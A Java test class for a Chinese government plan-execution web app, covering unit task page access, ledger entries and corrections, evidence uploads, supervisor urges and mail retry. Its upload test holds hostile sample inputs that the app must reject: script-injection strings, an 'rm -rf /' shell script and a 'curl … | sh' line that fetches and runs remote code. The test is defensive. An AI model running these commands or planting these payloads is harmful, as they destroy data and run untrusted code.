package com.xiezuo.execution;

import static org.assertj.core.api.Assertions.assertThat;
import static org.camunda.bpm.engine.test.assertions.bpmn.BpmnAwareTests.complete;
import static org.camunda.bpm.engine.test.assertions.bpmn.BpmnAwareTests.withVariables;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.xiezuo.decomposition.Allocations;
import com.xiezuo.decomposition.IndicatorRow;
import com.xiezuo.lifecycle.LifecycleFixture;
import com.xiezuo.mail.PendingMailRetry;
import com.xiezuo.plan.PlanImportService;
import com.xiezuo.plan.PlanSummary;
import com.xiezuo.support.Api;
import com.xiezuo.support.ProcessDriver;
import com.xiezuo.support.TasklistSession;
import com.xiezuo.support.TestSmtp;
import com.xiezuo.support.WebSession;
import com.xiezuo.support.XiezuoSpringTest;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDateTime;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.camunda.bpm.engine.HistoryService;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.task.Task;
import org.camunda.bpm.engine.test.assertions.bpmn.BpmnAwareTests;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

/** The unit task page as its users meet it: the unit, its lead unit, leadership, supervisors, other units. */
@XiezuoSpringTest
class UnitTaskPageTest {

  private static final ObjectMapper JSON = new ObjectMapper();

  @Autowired ProcessEngine engine;
  @Autowired PlanImportService importer;
  @Autowired UnitAssignments assignments;
  @Autowired Allocations allocations;
  @Autowired UnitTaskFigures figures;
  @Autowired TaskService taskService;
  @Autowired ManagementService managementService;
  @Autowired HistoryService historyService;
  @Autowired JdbcClient jdbc;
  @Autowired PendingMailRetry retry;
  @LocalServerPort int port;

  private PlanSummary plan;
  private ProcessDriver driver;

  @BeforeEach
  void planInProgress() {
    BpmnAwareTests.init(engine);
    ProcessDriver.setClock(LocalDateTime.of(2023, 5, 10, 9, 0));
    plan = LifecycleFixture.importPlan(importer, true);
    driver = new ProcessDriver(managementService, historyService, plan.processInstanceId());
    LifecycleFixture.approve(taskService, plan);
    LifecycleFixture.decomposeAndHandOut(taskService, allocations, driver, plan);
  }

  @AfterEach
  void resetClock() {
    ProcessDriver.resetClock();
  }

  private UnitAssignment unit(String unitId, String taskNumber) {
    return assignments.ofPlan(plan.id()).stream()
        .filter(a -> a.unitId().equals(unitId) && a.taskNumber().equals(taskNumber)).findFirst().orElseThrow();
  }

  @Test
  void theUnitSeesAndWorksItsPageOtherUnitsDoNot() {
    UnitAssignment hrss = unit("hrss", "2");
    WebSession unit = WebSession.logIn(port, "hrss");
    Api.Response page = unit.get("/execution/" + hrss.id());
    assertThat(page.status()).isEqualTo(200);
    assertThat(page.body()).contains("任务 2 强化劳务协作", "市人力资源和社会保障局", "牵头单位", "佐证材料");
    assertThat(WebSession.logIn(port, "finance").get("/execution/" + hrss.id()).status()).isEqualTo(403);
    assertThat(WebSession.logIn(port, "leader").get("/execution/" + hrss.id()).status()).isEqualTo(200);
    assertThat(WebSession.logIn(port, "finance").postForm("/execution/" + hrss.id() + "/urge", Map.of()).status())
        .isEqualTo(403);
  }

  @Test
  void ledgerEntriesAddUpAndTheLeadSeesItsCoUnitsContributions() throws Exception {
    UnitAssignment doumen = unit("doumen", "1");
    UnitAssignment finance = unit("finance", "1");
    IndicatorRow funds = allocations.indicators(plan.id()).get(0);
    WebSession district = WebSession.logIn(port, "doumen");
    Api.Response added = district.postForm("/execution/" + doumen.id() + "/ledger", Map.of(
        "indicatorId", String.valueOf(funds.id()), "date", "2023-05-09", "amount", "100000000", "note", "第一批资金拨付"));
    assertThat(added.status()).isEqualTo(302);
    Api.Response page = district.follow(added);
    assertThat(page.body()).contains("台账已登记", "第一批资金拨付", "1 亿元");
    Api.Response future = district.postForm("/execution/" + doumen.id() + "/ledger", Map.of(
        "indicatorId", String.valueOf(funds.id()), "date", "2023-06-09", "amount", "5", "note", ""));
    assertThat(district.follow(future).body()).contains("台账日期不能晚于今天");
    Map<String, String> refused = Map.of(
        "99999999999999999999亿", "过大：上限为 1000 万亿",
        "100000000000000000", "过大：上限为 1000 万亿",
        "0.123456", "小数位过多：最多 4 位");
    refused.forEach((amount, message) -> assertThat(district.follow(district.postForm("/execution/" + doumen.id()
        + "/ledger", Map.of("indicatorId", String.valueOf(funds.id()), "date", "2023-05-09", "amount", amount)))
        .body()).as(amount).contains(message));
    assertThat(district.follow(district.postForm("/execution/" + doumen.id() + "/ledger", Map.of("indicatorId",
        String.valueOf(funds.id()), "date", "2023-05-09", "amount", "1", "note", "长".repeat(2000)))).body())
        .contains("说明不能超过 1000 字（现为 2000 字）");
    assertThat(WebSession.logIn(port, "hrss").postForm("/execution/" + doumen.id() + "/ledger", Map.of(
        "indicatorId", String.valueOf(funds.id()), "date", "2023-05-09", "amount", "1")).status()).isEqualTo(403);

    WebSession lead = WebSession.logIn(port, "finance");
    assertThat(lead.get("/execution/" + doumen.id()).status()).as("the lead unit reads co-unit pages").isEqualTo(200);
    assertThat(lead.get("/execution/" + finance.id()).body()).contains("配合单位贡献", "斗门区", "1 亿元");
    assertThat(figures.achieved(finance.planTaskId(), funds)).as("the task counts the lead's ledger")
        .isEqualByComparingTo("0");
    lead.postForm("/execution/" + finance.id() + "/ledger", Map.of(
        "indicatorId", String.valueOf(funds.id()), "date", "2023-05-10", "amount", "100000000", "note", "汇总斗门区"));
    assertThat(figures.achieved(finance.planTaskId(), funds)).isEqualByComparingTo("100000000");
    JsonNode progress = JSON.readTree(Api.as(port, "demo").get("/api/plans/" + plan.id() + "/indicators").body()).get(0);
    assertThat(progress.path("achieved").decimalValue()).as("statistics count the lead").isEqualByComparingTo("100000000");
    assertThat(progress.path("byUnit").path("doumen").decimalValue()).isEqualByComparingTo("100000000");

    complete(taskService.createTaskQuery().processInstanceId(doumen.processInstanceId())
        .taskDefinitionKey("userTask_acceptTask").singleResult(), withVariables("taskAccepted", true));
    Task completion = taskService.createTaskQuery().processInstanceId(doumen.processInstanceId())
        .taskDefinitionKey("userTask_reportCompletion").singleResult();
    assertThat((String) taskService.getVariable(completion.getId(), "ledgerSummary"))
        .as("the completion form shows the district's signed share").contains("台账合计 1 亿元", "本单位分解目标 4.2 亿元");

    assertThat(district.follow(district.postForm("/execution/" + doumen.id() + "/ledger", Map.of(
        "indicatorId", String.valueOf(funds.id()), "date", "2023-05-10", "amount", "50000000", "note", "第二批")))
        .body()).contains("台账已登记");
    assertThat((String) taskService.getVariable(completion.getId(), "ledgerSummary"))
        .as("an open completion form shows the ledger as it is now").contains("台账合计 1.5 亿元");
    complete(completion, withVariables("completionSummary", "两批资金均已拨付到位，项目已开工。"));
    assertThat(lead.get("/execution/" + finance.id()).body()).as("the lead's task page shows its co-units live")
        .contains("斗门区", "1.5 亿元", "完成情况：两批资金均已拨付到位");
    assertThat(district.follow(district.postForm("/execution/" + doumen.id() + "/ledger", Map.of("indicatorId",
        String.valueOf(funds.id()), "date", "2023-05-09", "amount", "１２万", "note", "全角输入"))).body())
        .as("full-width digits as a Chinese input method types them").contains("台账已登记", "全角输入");
  }

  @Test
  void aLedgerEntryAndAnEvidenceFileAreCorrectedWhileTheTaskIsOpenAndEveryCorrectionIsKept() throws Exception {
    UnitAssignment doumen = unit("doumen", "1");
    IndicatorRow funds = allocations.indicators(plan.id()).get(0);
    WebSession district = WebSession.logIn(port, "doumen");
    Api.Response page = district.get("/execution/" + doumen.id());
    assertThat(page.body()).as("a co-unit sees its own signed share").contains("不少于 4.2 亿元（本单位分解指标）");
    district.follow(district.postForm("/execution/" + doumen.id() + "/ledger", Map.of("indicatorId",
        String.valueOf(funds.id()), "date", "2023-05-09", "amount", "10000000", "note", "第一批")));
    long entry = jdbc.sql("select id from xz_ledger_entry where assignment_id = ?").param(doumen.id()).query(Long.class).single();

    Api.Response noReason = district.postForm("/execution/" + doumen.id() + "/ledger/" + entry + "/correct",
        Map.of("date", "2023-05-09", "amount", "100000000", "note", "第一批", "reason", ""));
    assertThat(district.follow(noReason).body()).contains("请填写更正原因");
    Api.Response corrected = district.postForm("/execution/" + doumen.id() + "/ledger/" + entry + "/correct",
        Map.of("date", "2023-05-08", "amount", "100000000", "note", "第一批（1 亿）", "reason", "少录了一个零"));
    String after = district.follow(corrected).body();
    assertThat(after).contains("台账已更正", "台账合计 1 亿元", "更正记录（1）", "2023-05-09 · 1000 万元 · 第一批",
        "2023-05-08 · 1 亿元 · 第一批（1 亿）", "少录了一个零", "斗门区经办人（doumen）");
    assertThat(WebSession.logIn(port, "hrss").postForm("/execution/" + doumen.id() + "/ledger/" + entry + "/correct",
        Map.of("date", "2023-05-08", "amount", "1", "reason", "x")).status()).as("another unit").isEqualTo(403);

    byte[] pdf = "%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF".getBytes(StandardCharsets.US_ASCII);
    district.follow(district.upload("/execution/" + doumen.id() + "/evidence", "file", "错传的纪要.pdf", pdf,
        Map.of("description", "")));
    long file = jdbc.sql("select id from xz_evidence where assignment_id = ?").param(doumen.id()).query(Long.class).single();
    String withdrawn = district.follow(district.postForm("/execution/" + doumen.id() + "/evidence/" + file + "/withdraw",
        Map.of("reason", "上传错文件"))).body();
    assertThat(withdrawn).contains("已撤回", "已撤回的材料（1）", "斗门区经办人（doumen） 于", "撤回：上传错文件");
    assertThat(district.getBytes("/execution/evidence/" + file).statusCode()).as("kept for the record").isEqualTo(200);

    complete(taskService.createTaskQuery().processInstanceId(doumen.processInstanceId())
        .taskDefinitionKey("userTask_acceptTask").singleResult(), withVariables("taskAccepted", true));
    complete(taskService.createTaskQuery().processInstanceId(doumen.processInstanceId())
        .taskDefinitionKey("userTask_reportCompletion").singleResult(), withVariables("completionSummary", "资金已全部拨付到位。"));
    complete(taskService.createTaskQuery().processInstanceId(doumen.processInstanceId())
        .taskDefinitionKey("userTask_leadReview").singleResult(), withVariables("leadReviewDecision", "approve"));
    complete(taskService.createTaskQuery().processInstanceId(doumen.processInstanceId())
        .taskDefinitionKey("userTask_signOff").singleResult(), withVariables("approvalDecision", "approve"));
    Api.Response closed = district.postForm("/execution/" + doumen.id() + "/ledger/" + entry + "/correct",
        Map.of("date", "2023-05-08", "amount", "1", "reason", "再改"));
    assertThat(closed.status()).as("a finished task is read-only").isEqualTo(403);
    assertThat(closed.body()).contains("更正本任务台账");
  }

  @Test
  void theLeadsCompletionFormShowsItsCoUnitsFiguresAsTheyAreWhenItIsOpened() throws Exception {
    UnitAssignment finance = unit("finance", "1");
    UnitAssignment doumen = unit("doumen", "1");
    IndicatorRow funds = allocations.indicators(plan.id()).get(0);
    complete(taskService.createTaskQuery().processInstanceId(finance.processInstanceId())
        .taskDefinitionKey("userTask_acceptTask").singleResult(), withVariables("taskAccepted", true));
    Task completion = taskService.createTaskQuery().processInstanceId(finance.processInstanceId())
        .taskDefinitionKey("userTask_reportCompletion").singleResult();
    assertThat((String) taskService.getVariable(completion.getId(), "coUnitContributions")).contains("斗门区（办理中）；1 财政援助资金投入 0 元");

    WebSession.logIn(port, "doumen").postForm("/execution/" + doumen.id() + "/ledger", Map.of(
        "indicatorId", String.valueOf(funds.id()), "date", "2023-05-09", "amount", "1亿", "note", "第一批"));
    assertThat((String) taskService.getVariable(completion.getId(), "coUnitContributions"))
        .as("the co-unit's transaction does not write into the lead's instance").contains("0 元");

    TasklistSession lead = TasklistSession.logIn(port, "finance");
    Api.Response form = lead.get("/camunda/api/engine/engine/default/task/" + completion.getId() + "/form-variables");
    assertThat(form.status()).isEqualTo(200);
    assertThat(JSON.readTree(form.body()).path("coUnitContributions").path("value").asText())
        .as("opened in Tasklist: as it is now").contains("斗门区（办理中）；1 财政援助资金投入 1 亿元");
  }

  @Test
  void aLeadWithASignedShareReadsItWithTheWholeTargetAlikeOnItsFormAndItsPage() {
    PlanSummary shared = LifecycleFixture.importPlan(importer, true);
    LifecycleFixture.approve(taskService, shared);
    LifecycleFixture.decomposeAndHandOut(taskService, allocations,
        new ProcessDriver(managementService, historyService, shared.processInstanceId()), shared,
        Map.of("finance", new BigDecimal("200000000"), "doumen", new BigDecimal("220000000")));
    UnitAssignment finance = assignments.ofPlan(shared.id()).stream().filter(a -> a.unitId().equals("finance"))
        .findFirst().orElseThrow();
    String target = "不少于 2 亿元（本单位分解指标；全任务目标 不少于 4.2 亿元）";
    Task accept = taskService.createTaskQuery().processInstanceId(finance.processInstanceId()).singleResult();
    assertThat((String) taskService.getVariable(accept.getId(), "indicatorTargets")).contains("财政援助资金投入：" + target);
    assertThat(WebSession.logIn(port, "finance").get("/execution/" + finance.id()).body()).contains(target);
  }

  @Test
  void aRatioIsNotSummedItsLatestValueStands() throws Exception {
    UnitAssignment finance = unit("finance", "1");
    IndicatorRow share = allocations.indicators(plan.id()).stream().filter(row -> "%".equals(row.unit())).findFirst()
        .orElseThrow();
    WebSession lead = WebSession.logIn(port, "finance");
    for (String[] entry : new String[][] {{"2023-05-08", "58"}, {"2023-05-09", "60"}}) {
      assertThat(lead.follow(lead.postForm("/execution/" + finance.id() + "/ledger", Map.of("indicatorId",
          String.valueOf(share.id()), "date", entry[0], "amount", entry[1], "note", "比例核算"))).body())
          .contains("台账已登记");
    }
    assertThat(figures.ledgerSummary(finance)).contains("台账最新值 60%").doesNotContain("118");
    assertThat(lead.get("/execution/" + finance.id()).body()).contains("台账最新值 60%").doesNotContain("118%");
    assertThat(figures.achieved(finance.planTaskId(), share)).isEqualByComparingTo("60");
    JsonNode progress = JSON.readTree(Api.as(port, "demo").get("/api/plans/" + plan.id() + "/indicators").body());
    JsonNode shareProgress = java.util.stream.StreamSupport.stream(progress.spliterator(), false)
        .filter(row -> row.path("indicator").path("id").asLong() == share.id()
            || row.path("id").asLong() == share.id()).findFirst().orElseThrow();
    assertThat(shareProgress.path("achieved").decimalValue()).isEqualByComparingTo("60");
  }

  private static byte[] zip(String... entries) throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      for (String entry : entries) {
        zip.putNextEntry(new ZipEntry(entry));
        zip.write("<x/>".getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
      }
    }
    return out.toByteArray();
  }

  @Test
  void evidenceIsCheckedByContentAndOnlyEverDownloaded() throws Exception {
    UnitAssignment hrss = unit("hrss", "2");
    WebSession unit = WebSession.logIn(port, "hrss");
    String path = "/execution/" + hrss.id() + "/evidence";
    byte[] pdf = "%PDF-1.4\n%会议纪要\n".getBytes(StandardCharsets.UTF_8);
    assertThat(unit.follow(unit.upload(path, "file", "6月联席会议纪要.pdf", pdf, Map.of("description", "联席会议"))).body())
        .contains("已上传", "6月联席会议纪要.pdf");
    assertThat(unit.follow(unit.upload(path, "file", "纪要.pdf", "<html><script>alert(1)</script>".getBytes(), Map.of()))
        .body()).contains("不支持的文件类型");
    assertThat(unit.follow(unit.upload(path, "file", "setup.exe", new byte[] {'M', 'Z', 1, 2, 3}, Map.of())).body())
        .contains("不支持的文件类型");
    for (String text : new String[] {"<html><script>alert(1)</script></html>", "<svg onload=alert(1)>",
        "#!/bin/sh\nrm -rf /\n", "下载后执行：curl http://x.example/a | sh"}) {
      assertThat(unit.follow(unit.upload(path, "file", "名单.txt", text.getBytes(StandardCharsets.UTF_8), Map.of()))
          .body()).as(text).contains("文本文件中含有网页代码（HTML/SVG）或脚本");
    }
    assertThat(unit.follow(unit.upload(path, "file", "名单.txt", "张三，李四；联系电话 0756-1234567。\n"
        .getBytes(StandardCharsets.UTF_8), Map.of())).body()).contains("已上传", "名单.txt");
    assertThat(unit.follow(unit.upload(path, "file", "台账.xlsm",
        zip("[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"), Map.of())).body()).contains("含宏代码");
    assertThat(unit.follow(unit.upload(path, "file", "台账.xlsx", zip("[Content_Types].xml", "xl/workbook.xml"), Map.of()))
        .body()).contains("台账.xlsx");
    assertThat(unit.follow(unit.upload(path, "file", "旧台账.xls", legacyWorkbook(false), Map.of())).body())
        .contains("已上传", "旧台账.xls");
    assertThat(unit.follow(unit.upload(path, "file", "宏台账.xls", legacyWorkbook(true), Map.of())).body())
        .contains("文件含有宏");
    assertThat(unit.follow(unit.upload(path, "file", "汇报.ppt", legacyWorkbook(false), Map.of())).body())
        .contains("不接受 PowerPoint 97-2003");
    assertThat(unit.follow(unit.upload(path, "file", "大文件.pdf", bigPdf(21), Map.of())).body()).contains("文件过大");
    assertThat(unit.follow(unit.upload(path, "file", "纪要.pdf", pdf, Map.of("description", "说".repeat(600)))).body())
        .contains("说明不能超过 500 字（现为 600 字）");
    Api.Response tooLarge = unit.upload(path, "file", "超大.pdf", bigPdf(30), Map.of());
    assertThat(tooLarge.status()).isEqualTo(413);
    assertThat(tooLarge.body()).contains("上传文件过大");

    long fileId = jdbc.sql("select id from xz_evidence where assignment_id = ? and file_name = ?")
        .params(hrss.id(), "6月联席会议纪要.pdf").query(Long.class).single();
    HttpResponse<byte[]> download = unit.getBytes("/execution/evidence/" + fileId);
    assertThat(download.statusCode()).isEqualTo(200);
    assertThat(download.headers().firstValue("Content-Type")).contains("application/pdf");
    assertThat(download.headers().firstValue("Content-Disposition").orElseThrow()).startsWith("attachment;");
    assertThat(download.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
    assertThat(download.body()).isEqualTo(pdf);
    assertThat(WebSession.logIn(port, "finance").getBytes("/execution/evidence/" + fileId).statusCode()).isEqualTo(403);
  }

  /** An Excel 97-2003 workbook; with macros it carries the VBA project storage Excel writes. */
  private static byte[] legacyWorkbook(boolean withMacros) throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (HSSFWorkbook workbook = new HSSFWorkbook()) {
      workbook.createSheet("台账").createRow(0).createCell(0).setCellValue("资金拨付");
      workbook.write(out);
    }
    if (!withMacros) {
      return out.toByteArray();
    }
    try (POIFSFileSystem fs = new POIFSFileSystem(new ByteArrayInputStream(out.toByteArray()))) {
      fs.getRoot().createDirectory("_VBA_PROJECT_CUR").createDirectory("VBA")
          .createDocument("dir", new ByteArrayInputStream(new byte[] {1, 2, 3}));
      ByteArrayOutputStream withVba = new ByteArrayOutputStream();
      fs.writeFilesystem(withVba);
      return withVba.toByteArray();
    }
  }

  private static byte[] bigPdf(int megabytes) {
    byte[] bytes = new byte[megabytes * 1024 * 1024];
    System.arraycopy("%PDF-1.4".getBytes(), 0, bytes, 0, 8);
    return bytes;
  }

  @Test
  void leadershipInstructsAndFollowsSupervisorsUrge() {
    UnitAssignment hrss = unit("hrss", "2");
    WebSession leader = WebSession.logIn(port, "leader");
    assertThat(leader.follow(leader.postForm("/execution/" + hrss.id() + "/instructions",
        Map.of("text", "请加大有组织劳务输出力度"))).body()).contains("批示已发出", "请加大有组织劳务输出力度");
    Task open = taskService.createTaskQuery().processInstanceId(hrss.processInstanceId()).list().get(0);
    assertThat(taskService.getTaskComments(open.getId()))
        .filteredOn(c -> c.getFullMessage().contains("领导批示（leader）：请加大有组织劳务输出力度"))
        .as("noted in the leader's own name in Tasklist's history").singleElement()
        .satisfies(c -> assertThat(c.getUserId()).isEqualTo("leader"));
    leader.postForm("/execution/" + hrss.id() + "/follow", Map.of("follow", "true"));
    assertThat(leader.get("/execution/followed").body()).contains("任务 2", "市人力资源和社会保障局");
    assertThat(WebSession.logIn(port, "hrss").postForm("/execution/" + hrss.id() + "/instructions",
        Map.of("text", "x")).status()).isEqualTo(403);

    WebSession supervisor = WebSession.logIn(port, "supervisor");
    assertThat(supervisor.follow(supervisor.postForm("/execution/" + hrss.id() + "/urge",
        Map.of("message", "请本周内报送进展"))).body()).contains("已向该单位发出催办", "督查专员（supervisor） 催办");
    supervisor.postForm("/execution/" + hrss.id() + "/urge", Map.of("message", "请本周内报送进展"));
    var urges = TestSmtp.withKeyPrefix("urge/" + hrss.id() + "/");
    assertThat(urges).as("a double click is one urge").hasSize(1);
    assertThat(TestSmtp.body(urges.get(0))).contains("督查人员（supervisor）催办", "请本周内报送进展");
    assertThat(taskService.getTaskComments(open.getId())).filteredOn(c -> c.getFullMessage().contains("督查催办"))
        .hasSize(1);
    assertThat(jdbc.sql("select created_by from xz_mail where kind = 'URGE' and business_key = ?")
        .param(hrss.businessKey()).query(String.class).list()).containsExactly("supervisor");
  }

  @Test
  void anUrgeWhileTheMailServerIsDownStandsAndItsMailFollowsOnceTheServerIsBack() throws Exception {
    UnitAssignment hrss = unit("hrss", "2");
    WebSession supervisor = WebSession.logIn(port, "supervisor");
    String path = "/execution/" + hrss.id() + "/urge";
    assertThat(supervisor.follow(supervisor.postForm(path, Map.of("message", "催".repeat(501)))).body())
        .contains("督查意见不能超过 500 字");
    TestSmtp.stop();
    try {
      assertThat(supervisor.follow(supervisor.postForm(path, Map.of("message", "请于周五前报送台账"))).body())
          .contains("催办已记录", "系统将自动重发");
      ProcessDriver.setClock(LocalDateTime.of(2023, 5, 10, 9, 3));
      assertThat(retry.sendDue()).as("not before the 5-minute back-off").isZero();
    } finally {
      TestSmtp.start();
    }
    assertThat(TestSmtp.withKeyPrefix("urge/" + hrss.id() + "/")).isEmpty();
    ProcessDriver.setClock(LocalDateTime.of(2023, 5, 10, 9, 6));
    assertThat(retry.sendDue()).isEqualTo(1);
    assertThat(retry.sendDue()).as("sent once").isZero();
    var urges = TestSmtp.withKeyPrefix("urge/" + hrss.id() + "/");
    assertThat(urges).hasSize(1);
    assertThat(TestSmtp.body(urges.get(0))).contains("请于周五前报送台账");
    Task open = taskService.createTaskQuery().processInstanceId(hrss.processInstanceId()).list().get(0);
    assertThat(taskService.getTaskComments(open.getId())).extracting(c -> c.getFullMessage())
        .anyMatch(text -> text.contains("督查催办（supervisor）：请于周五前报送台账"));
  }

  @Test
  void aFinishedTaskIsReadOnly() {
    UnitAssignment hrss = unit("hrss", "2");
    String instance = hrss.processInstanceId();
    complete(taskService.createTaskQuery().processInstanceId(instance).taskDefinitionKey("userTask_acceptTask")
        .singleResult(), withVariables("taskAccepted", true));
    complete(taskService.createTaskQuery().processInstanceId(instance).taskDefinitionKey("userTask_reportCompletion")
        .singleResult(), withVariables("completionSummary", "全年转移就业 820 人，超额完成。"));
    complete(taskService.createTaskQuery().processInstanceId(instance).taskDefinitionKey("userTask_signOff")
        .singleResult(), withVariables("approvalDecision", "approve"));

    WebSession unit = WebSession.logIn(port, "hrss");
    String page = unit.get("/execution/" + hrss.id()).body();
    assertThat(page).contains("已办结").doesNotContain("id=\"ledger-form\"", "id=\"evidence-form\"");
    assertThat(unit.upload("/execution/" + hrss.id() + "/evidence", "file", "补充.pdf", "%PDF-1.4".getBytes(), Map.of())
        .status()).isEqualTo(403);
    WebSession leader = WebSession.logIn(port, "leader");
    assertThat(leader.get("/execution/" + hrss.id()).body()).doesNotContain("id=\"instruction-form\"")
        .contains("id=\"follow-form\"");
    assertThat(WebSession.logIn(port, "supervisor").postForm("/execution/" + hrss.id() + "/urge", Map.of()).status())
        .isEqualTo(403);
  }

  @Test
  void statusLightsTurnYellowInTheReminderWindowAndRedWhenOverdue() throws Exception {
    UnitAssignment hrss = unit("hrss", "2");
    assertThat(light(hrss)).isEqualTo("GREEN");
    ProcessDriver.setClock(LocalDateTime.of(2023, 6, 23, 10, 0));
    assertThat(light(hrss)).isEqualTo("YELLOW");
    driver.advanceTo(LocalDateTime.of(2023, 7, 1, 0, 1));
    assertThat(light(hrss)).isEqualTo("RED");
    assertThat(WebSession.logIn(port, "hrss").get("/execution/" + hrss.id()).body()).contains("已逾期");
  }

  private String light(UnitAssignment assignment) throws Exception {
    JsonNode plan = JSON.readTree(Api.as(port, "demo").get("/api/plans/" + assignment.planId()).body());
    for (JsonNode task : plan.path("tasks")) {
      for (JsonNode unit : task.path("unitTasks")) {
        if (unit.path("assignmentId").asLong() == assignment.id()) {
          return unit.path("light").asText();
        }
      }
    }
    throw new AssertionError("no unit task " + assignment.id());
  }

  @Test
  void theOutboxIsForCoordinatorsAndSupervisors() {
    assertThat(WebSession.logIn(port, "demo").get("/outbox").body()).contains("发件箱");
    assertThat(WebSession.logIn(port, "hrss").get("/outbox").status()).isEqualTo(403);
  }
}
